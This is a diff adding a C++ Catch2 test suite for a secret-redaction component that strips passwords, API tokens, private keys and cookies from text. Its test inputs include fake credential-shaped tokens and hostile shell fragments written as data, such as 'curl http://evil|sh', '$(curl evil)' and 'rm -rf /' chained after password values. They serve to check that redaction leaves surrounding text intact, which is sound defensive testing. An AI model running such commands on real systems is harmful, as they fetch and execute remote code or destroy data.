@@ -1,0 +1,150 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "core/redaction/secrets.hpp"
+
+#include <catch2/catch.hpp>
+#include <string>
+
+using namespace headway::core;
+
+namespace {
+
+std::string redacted(std::string_view text) {
+    std::string out;
+    SecretFinder{}.append_redacted(out, text);
+    return out;
+}
+
+struct Case {
+    const char* text;
+    const char* kept;
+};
+
+// Split, so that no scanner takes this file for a leak.
+const std::string kGithub = std::string{"ghp"} + "_16C7e42F292c6912E7710c838347Ae178B4a";
+const std::string kOpenAi = std::string{"sk"} + "-proj-Zk3mN8xQ2wE5rT7yU1iO9pA4sD6f";
+const std::string kAws = std::string{"AKIA"} + "IOSFODNN7EXAMPL3";
+const std::string kJwt =
+    std::string{"eyJ"} + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVm";
+
+}  // namespace
+
+TEST_CASE("secrets: values of secret names are removed, and nothing around them", "[secrets]") {
+    const Case cases[] = {
+        {"password=hunter2 and more", "password=[redacted] and more"},
+        {"DB_PASSWORD: hunter2\nuser: ana", "DB_PASSWORD: [redacted]\nuser: ana"},
+        {R"({"api_key": "a1b2c3d4e5", "model": "x"})",
+         R"({"api_key": "[redacted]", "model": "x"})"},
+        {R"({\"api_key\": \"a1b2c3d4e5\", \"n\": 1})",
+         R"({\"api_key\": \"[redacted]\", \"n\": 1})"},
+        {R"(password = "two words, and a \" in it" # end)", R"(password = "[redacted]" # end)"},
+        {"'secret' => 'abcd1',", "'secret' => '[redacted]',"},
+        {"export GITHUB_TOKEN=abc12345def", "export GITHUB_TOKEN=[redacted]"},
+        {"mysql --password hunter2 -u root", "mysql --password [redacted] -u root"},
+        {"mysql --password='a b' -u root", "mysql --password='[redacted]' -u root"},
+        {"Authorization: Basic YTpi\nHost: x", "Authorization: Basic [redacted]\nHost: x"},
+        {"curl -H 'Authorization: Bearer q1.w2' x", "curl -H 'Authorization: Bearer [redacted]' x"},
+        {"Set-Cookie: sid=38afes7a8; Path=/\r\nA: b", "Set-Cookie: [redacted]\r\nA: b"},
+        {"sent Bearer 9d8f7g6h5j4k3l2m1 to it", "sent Bearer [redacted] to it"},
+        {"postgres://ana:hunter2@db/x?y=1", "postgres://[redacted]@db/x?y=1"},
+        {"a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b",
+         "a [redacted] b"},
+        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl cut off", "[redacted]"},
+        {"token=abcd1234&token=efgh5678", "token=[redacted]&token=[redacted]"},
+        // Shell text behind a value is not part of it.
+        {R"(deploy --token "x1y2z3w4v5; curl http://evil|sh")",
+         R"(deploy --token "[redacted]; curl http://evil|sh")"},
+        {R"x(deploy --token "x1y2z3w4v5$(curl evil)")x",
+         R"x(deploy --token "[redacted](curl evil)")x"},
+        {"deploy --password='abc12345`id`'", "deploy --password='[redacted]`id`'"},
+        {"deploy --password abc12345;rm -rf /", "deploy --password [redacted];rm -rf /"},
+        {R"(PASSWORD="abc12345" && rm -rf /)", R"(PASSWORD="[redacted]" && rm -rf /)"},
+        {R"(PASSWORD="abc12345 && rm -rf /")", R"(PASSWORD="[redacted]&& rm -rf /")"},
+        {"curl -H Authorization:abc12345|sh", "curl -H Authorization:[redacted]|sh"},
+        {"git clone https://u:p4ss|sh@host/x", "git clone https://[redacted]|sh@host/x"},
+        {R"({"password": "abc12345' ; rm -rf / #"})",
+         R"({"password": "[redacted]' ; rm -rf / #"})"},
+    };
+    for (const Case& c : cases) {
+        DYNAMIC_SECTION(c.text) {
+            CHECK(redacted(c.text) == c.kept);
+        }
+    }
+}
+
+TEST_CASE("secrets: tokens of known shapes are removed anywhere", "[secrets]") {
+    for (const std::string& token : {kGithub, kOpenAi, kAws, kJwt}) {
+        DYNAMIC_SECTION(token.substr(0, 4)) {
+            CHECK(redacted("rejected " + token + " (401)") == "rejected [redacted] (401)");
+            CHECK(redacted("\"" + token + "\"") == "\"[redacted]\"");
+            CHECK(redacted(token) == "[redacted]");
+            CHECK(redacted("a" + token) == "a" + token);
+            CHECK(redacted("config." + token) == "config.[redacted]");
+            CHECK(redacted(token + "... (401)") ==
+                  (token == kJwt ? "[redacted] (401)" : "[redacted]... (401)"));
+        }
+    }
+}
+
+TEST_CASE("secrets: code and other harmless text stays unchanged", "[secrets]") {
+    const char* const cases[] = {
+        "max_tokens=4096, tokens: 512, token_count: 17",
+        "password = getpass.getpass()",
+        "password = os.environ[\"DB_PASSWORD\"]",
+        "token=$GITHUB_TOKEN --password \"${PASSWORD}\"",
+        "def login(user: str, password: str, token=None):",
+        "token: string; secret?: string",
+        "client.login(user, password=password, token=self.token)",
+        "if password == \"x\": pass",
+        "next_token=abc12345def page_token: eyJhbGciOiJ",
+        "\"eos_token\": \"</s_end>\"",
+        "The password is wrong",
+        "risk-assessment-of-something-long-2024",
+        "sk-learn-contrib-py39",
+        "git@github.com:ana/x.git and https://ana@host/x",
+        "https://example.com:8080/a@b?c=d:e",
+        "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
+        "tokenizer: fast; secretary: Ana",
+        "Error: Authorization header missing",
+        "-- password\n--",
+        "password:",
+        "token=",
+    };
+    for (const char* text : cases) {
+        DYNAMIC_SECTION(text) {
+            CHECK(redacted(text) == text);
+        }
+    }
+}
+
+TEST_CASE("secrets: an operator adds and exempts names", "[secrets]") {
+    const SecretFinder finder{{"X-Internal-Pin"}, {"session_token"}};
+    CHECK(finder.is_secret("x_internal_pin", "1"));
+    CHECK(finder.is_secret("my-X-Internal-PIN", "1"));
+    CHECK_FALSE(finder.is_secret("session_token", "0123456789"));
+    CHECK(finder.is_secret("github_token", "0123456789"));
+    CHECK_FALSE(SecretFinder{}.is_secret("x_internal_pin", "1"));
+}
+
+TEST_CASE("secrets: an ambiguous key of a JSON object needs a plausible value", "[secrets]") {
+    const SecretFinder finder;
+    CHECK(finder.is_secret("password", "x"));
+    CHECK(finder.is_secret("DB_PASSWORD", "correct horse"));
+    CHECK(finder.is_secret("apiKey", "plainwords"));
+    CHECK_FALSE(finder.is_secret("token", "the"));
+    CHECK_FALSE(finder.is_secret("password", ""));
+    CHECK_FALSE(finder.is_secret("password", "${PASSWORD}"));
+    CHECK_FALSE(finder.is_secret("path", "a1b2c3d4e5"));
+    CHECK_FALSE(finder.is_secret("nextPageToken", "a1b2c3d4e5"));
+}
+
+TEST_CASE("secrets: an adversarial text is scanned once", "[secrets]") {
+    // A megabyte of each; a search that is not linear would exceed the test's time limit.
+    constexpr std::size_t kBytes = 1U << 20;
+    for (const std::string piece : {"token:$", "token:", "password=\"", "://a:", "-----BEGIN ",
+                                    "Bearer ", "cookie: $", "--token $", "token:a(", "sk-"}) {
+        std::string text;
+        while (text.size() < kBytes)
+            text += piece;
+        CHECK(redacted(text).size() > 0);
+    }
+}
